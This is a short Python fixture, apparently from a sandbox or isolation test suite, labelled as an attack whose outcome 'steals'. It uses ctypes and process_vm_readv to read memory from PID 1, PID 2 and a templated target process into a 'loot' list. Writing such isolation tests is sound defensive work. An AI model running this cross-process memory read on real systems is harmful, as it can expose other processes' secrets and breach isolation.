# attack: reads another process with a system call
# exercises: vertical_edge_kernel
# outcome: steals
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = Part(ctypes.addressof(buffer), 4096)
for pid in (1, 2, int("__PID__")):
    libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(Part(0x400000, 4096)), 1, 0)
loot.append(buffer.raw.strip(b"\0"))
